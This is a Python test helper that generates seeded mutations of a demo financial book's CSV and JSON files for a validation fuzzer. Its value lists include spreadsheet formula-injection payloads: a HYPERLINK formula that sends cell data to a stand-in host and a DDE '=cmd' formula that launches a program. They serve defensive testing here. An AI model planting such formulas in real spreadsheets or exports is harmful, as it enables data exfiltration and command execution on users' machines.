"""Seeded mutations of the demo book's files, for the validation fuzzer (test_book_fuzz.py).

Each case changes one file of the demo book in one way: a cell changed, a column or the
rows removed, a row duplicated or cut short, a header renamed, bytes that are not UTF-8, the
file emptied or removed. A case is planned in memory from its seed and number alone, so the
same seed gives the same bytes on every machine and a failure names its case exactly.
"""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
from dataclasses import dataclass
from pathlib import Path

DEMO = Path(__file__).parents[2] / "engine" / "book" / "demo_book"
BOOK_FILES = (
    "book.json",
    "parties.csv",
    "accounts.csv",
    "relations.csv",
    "instruments.csv",
    "positions.csv",
    "collateral.csv",
)
CSV_KINDS = (
    "cell",
    "cell",
    "cell",  # the commonest mistake, so the most cases
    "drop_column",
    "drop_rows",
    "duplicate_row",
    "cut_row",
    "rename_header",
    "not_utf8",
    "empty_file",
    "drop_file",
    "bom",
    "crlf",
    "formula",
    "relation_cycle",
)
JSON_KINDS = ("truncate", "not_utf8", "empty_file", "drop_file", "field")
# Values a person or a tool might leave in a cell: blanks, NaN words, out-of-range
# numbers, impossible dates, values of other columns' types, quoting and non-ASCII text.
CELL_VALUES = (
    "",
    " ",
    "nan",
    "NaN",
    "inf",
    "-inf",
    "-1",
    "0",
    "1e400",
    "abc",
    "2026-13-01",
    "2026-02-30",
    "30/06/2026",
    "2026-06-30",
    "true",
    "no",
    "SEC",
    "house",
    "put",
    "USD",
    "sol",
    "BTC",
    '"',
    "a,b",
    "é",
    "x" * 300,
    "portfolio_margin;;cross_margin",
    "-2.5",
    "0.001",
    "1e308",
    "-1e308",
    "1e16",
    "1,000",
    '=HYPERLINK("http://x.example","click")',
    "=1+1",
    "@SUM(A1:A9)",
    "+1",
    "\ufeffA01",
    "A01\r",
)
FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+9)")
JSON_VALUES = (None, "", "2026-06-31", "2026-6-30", "EUR", 20260630, [], {"a": 1}, "é")


@dataclass(frozen=True)
class Case:
    """One mutated file: its name, what was done, and its new bytes (None: removed)."""

    number: int
    file: str
    kind: str
    detail: str
    data: bytes | None
    also: tuple[tuple[str, bytes | None], ...] = ()
    """Other files broken in the same case (several broken files at once)."""

    @property
    def id(self) -> str:
        """A test id that says what the case did."""
        return f"{self.number:03d}-{self.file}-{self.kind}"

    def apply(self, folder: Path) -> Path:
        """Copy the demo book to ``folder`` and plant this mutation in it."""
        shutil.copytree(DEMO, folder, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
        for name, data in ((self.file, self.data), *self.also):
            target = folder / name
            if data is None:
                target.unlink(missing_ok=True)
            else:
                target.write_bytes(data)
        return folder


def _records(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _csv_bytes(records: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(records)
    return out.getvalue().encode("utf-8")


def _book_values(files: dict[str, bytes]) -> list[str]:
    """Every cell of the book: ids and values moved into the wrong place are mistakes too."""
    found = {
        v
        for name, data in files.items()
        if name.endswith(".csv")
        for r in _records(data)[1:]
        for v in r
    }
    return sorted(found)


def _csv_case(
    rng: random.Random, kind: str, data: bytes, pool: list[str]
) -> tuple[str, bytes | None]:
    records = _records(data)
    header, rows = records[0], records[1:]
    col = rng.randrange(len(header))
    row = rng.randrange(len(rows)) if rows else 0
    if kind == "cell" and rows:
        value = rng.choice(CELL_VALUES) if rng.random() < 0.6 else rng.choice(pool)
        rows[row][col] = value
        return f"row {row + 2} {header[col]} = {value[:20]!r}", _csv_bytes([header, *rows])
    if kind == "drop_column":
        return f"without {header[col]}", _csv_bytes(
            [[v for i, v in enumerate(r) if i != col] for r in records]
        )
    if kind == "duplicate_row" and rows:
        return f"row {row + 2} twice", _csv_bytes([header, *rows, rows[row]])
    if kind == "cut_row" and rows:
        rows[row] = rows[row][: rng.randrange(len(header))]
        return f"row {row + 2} cut to {len(rows[row])} values", _csv_bytes([header, *rows])
    if kind == "rename_header":
        header[col] = (
            header[col] + rng.choice(("_", "s", " ")) if rng.random() < 0.7 else header[col].upper()
        )
        return f"header {col + 1} renamed {header[col]!r}", _csv_bytes([header, *rows])
    if kind == "not_utf8":
        at = rng.randrange(len(data) + 1)
        bad = rng.choice((b"\xff", b"\xe9", b"\xc3", b"\x80\x80"))
        return f"{bad!r} at byte {at}", data[:at] + bad + data[at:]
    if kind == "empty_file":
        return "zero bytes", b""
    if kind == "drop_file":
        return "file removed", None
    if kind == "bom":
        return "a UTF-8 byte order mark", b"\xef\xbb\xbf" + data
    if kind == "crlf":
        return "CRLF line ends", data.replace(b"\n", b"\r\n")
    if kind == "formula" and rows:
        rows[row][col] = rng.choice(FORMULAS)
        return f"row {row + 2} {header[col]} a formula", _csv_bytes([header, *rows])
    if kind == "relation_cycle":
        a, b = rng.sample(pool, 2)
        relation = rng.choice(("rehypothecated_to", "member_of", "affiliate_of", "guarantees"))
        cycle = [[a, b, relation], [b, a, relation]]
        return f"{a} <-> {b} {relation}", _csv_bytes([header, *rows, *cycle])
    return "header only", _csv_bytes([header])  # drop_rows, or a kind needing rows on none


def _json_case(rng: random.Random, kind: str, data: bytes) -> tuple[str, bytes | None]:
    if kind == "truncate":
        at = rng.randrange(len(data))
        return f"cut at byte {at}", data[:at]
    if kind == "not_utf8":
        at = rng.randrange(len(data) + 1)
        return f"b'\\xff' at byte {at}", data[:at] + b"\xff" + data[at:]
    if kind == "empty_file":
        return "zero bytes", b""
    if kind == "drop_file":
        return "file removed", None
    key = rng.choice(("as_of", "currency", "name", "extra"))
    value = rng.choice(JSON_VALUES)
    text = data.decode("utf-8").rstrip().rstrip("}").rstrip()
    return f"{key} = {value!r}", f'{text},\n  "{key}": {_json(value)}\n}}\n'.encode()


def _json(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def plan_case(seed: int, number: int, files: dict[str, bytes], pool: list[str]) -> Case:
    """Case ``number`` of ``seed``: it depends on nothing else, so it reproduces alone."""
    rng = random.Random(f"{seed}:{number}")
    name, kind, detail, data = _one_file(rng, files, pool)
    also: list[tuple[str, bytes | None]] = []
    for _ in range(rng.choice((0, 0, 0, 0, 1, 2))):  # a third of the cases break more files
        other, other_kind, other_detail, other_data = _one_file(rng, files, pool)
        if other != name and other not in dict(also):
            also.append((other, other_data))
            detail += f"; {other} {other_kind}: {other_detail}"
    return Case(number, name, kind, detail, data, tuple(also))


def _one_file(
    rng: random.Random, files: dict[str, bytes], pool: list[str]
) -> tuple[str, str, str, bytes | None]:
    name = rng.choice(BOOK_FILES)
    if name == "book.json":
        kind = rng.choice(JSON_KINDS)
        return name, kind, *_json_case(rng, kind, files[name])
    kind = rng.choice(CSV_KINDS)
    if kind == "relation_cycle":
        name = "relations.csv"
    return name, kind, *_csv_case(rng, kind, files[name], pool)


def plan_cases(seed: int, count: int) -> list[Case]:
    """``count`` distinct mutation cases of the demo book, the same for the same seed.

    A case that would plant the same bytes as an earlier one is skipped (removing a file,
    say, comes up often): each case costs a whole validation.
    """
    files = {name: (DEMO / name).read_bytes() for name in BOOK_FILES}
    pool = _book_values(files)
    cases: list[Case] = []
    seen: set[tuple[str, bytes | None, tuple[tuple[str, bytes | None], ...]]] = set()
    number = 0
    while len(cases) < count:
        case = plan_case(seed, number, files, pool)
        number += 1
        if (case.file, case.data, case.also) not in seen:
            seen.add((case.file, case.data, case.also))
            cases.append(case)
    return cases
